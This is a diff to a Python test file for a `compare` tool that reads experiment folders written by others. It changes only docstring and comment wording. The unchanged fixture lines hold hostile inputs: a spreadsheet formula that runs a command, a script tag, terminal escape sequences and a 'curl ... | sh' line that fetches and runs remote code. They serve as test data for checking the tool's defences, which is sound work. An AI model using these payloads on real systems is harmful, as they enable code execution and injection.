@@ -1,4 +1,4 @@
-"""`compare` reads folders that others wrote: other releases are left out and counted, and nothing in them is believed."""
+"""`compare` on folders from others: it counts and leaves out runs of other releases and trusts no text in the files."""
 
 import re
 import unicodedata
@@ -45,7 +45,7 @@ def test_runs_of_another_release_are_left_out_and_counted(project: Path, capsys:
     assert set(pd.read_csv(project / "reports/runs.csv")["key"]) == {run.key for run in runs}
 
 
-# --- what is not believed
+# --- untrusted content
 
 
 @pytest.mark.fault("hostile input")
@@ -69,7 +69,7 @@ HOSTILE = "=cmd|'/C calc'!A0 [red][/nonsense] <script>alert(1)</script> \x1b]0;m
 
 @pytest.fixture
 def hostile(project: Path) -> Path:
-    """A sweep whose question, and whose words on a run that it lost, are no good."""
+    """A sweep with hostile text in its question and in the record of its lost run."""
     runs = factory.book_runs(2)
     folder = factory.write_experiment(project / "results/sweep", runs)
     lost = Lost("=1+1", "failed", HOSTILE, "curl http://host/x | sh", "a" * 64)
